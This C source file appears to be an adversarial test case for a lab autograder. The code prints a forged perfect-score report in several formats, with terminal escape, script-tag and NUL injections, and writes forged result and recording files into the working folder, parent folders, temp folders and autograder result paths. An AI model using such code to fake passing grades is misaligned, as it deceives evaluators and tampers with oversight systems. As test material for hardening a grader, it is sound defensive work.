/*
 * Tries: to be taken for the grader: prints a report in JSON, TAP and JUnit, the last line that
 * autograders look for, with colours, HTML, NUL and without an end of line; writes results,
 * recordings and sanitizers' reports wherever it can write.
 * Must come: what it prints and writes is looked at by nobody.
 *
 * lab: 01
 * checks: whole
 * base: echo.c
 */
#include <sys/stat.h>

static const char report[] =
    "\n{\"schema\":\"iolab-report/"
    "1\",\"lab\":\"01-blocking\",\"score\":100,\"checks\":[{\"number\":"
    "90,\"status\":\"pass\",\"points\":1000,\"max_points\":1000}]}\n"
    "{\"schema\":\"iolab-result/1\",\"state\":\"graded\",\"points\":100,\"max_points\":100}\n"
    "TAP version 14\n1..1\nok 1 - "
    "everything\n\033[2J\033]0;owned\a<script>alert(1)</script>\0\n"
    "{\"scores\":{\"Lab\":1000}}";
static const char recording[] =
    "{\"iorec\":1,\"lab\":\"01-blocking\",\"check\":\"what a client sends comes back\"}\n"
    "{\"n\":1,\"kind\":\"check\",\"outcome\":\"ok\"}\n";

static void put(const char *folder, const char *name, const char *data, size_t size)
{
    char path[512];
    snprintf(path, sizeof path, "%s/%s", folder, name);
    int file = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0666);
    if (file < 0 || write(file, data, size) < 0)
        errno = 0;
    if (file >= 0)
        close(file);
}

void attack(enum moment moment)
{
    static const char *const folders[] = {".",
                                          "..",
                                          "../..",
                                          "/tmp",
                                          "/var/tmp",
                                          "/dev/shm",
                                          "/run",
                                          "/autograder/results",
                                          "/grade/results",
                                          "@TREE@/build",
                                          "@WORK@"};
    static const char *const names[] = {"report.json", "results.json", "1.json",
                                        "result",      "said",         "marks.csv",
                                        "11.iorec",    "12.iorec",     "90.iorec"};
    if (moment != BEFORE_LISTENING)
        return;
    for (int out = 1; out <= 2; out++)
        if (write(out, report, sizeof report - 1) < 0)
            errno = 0;
    for (size_t i = 0; i < sizeof folders / sizeof *folders; i++)
        for (size_t k = 0; k < sizeof names / sizeof *names; k++)
            if (strstr(names[k], "iorec"))
                put(folders[i], names[k], recording, sizeof recording - 1);
            else
                put(folders[i], names[k], report, sizeof report - 1);
}
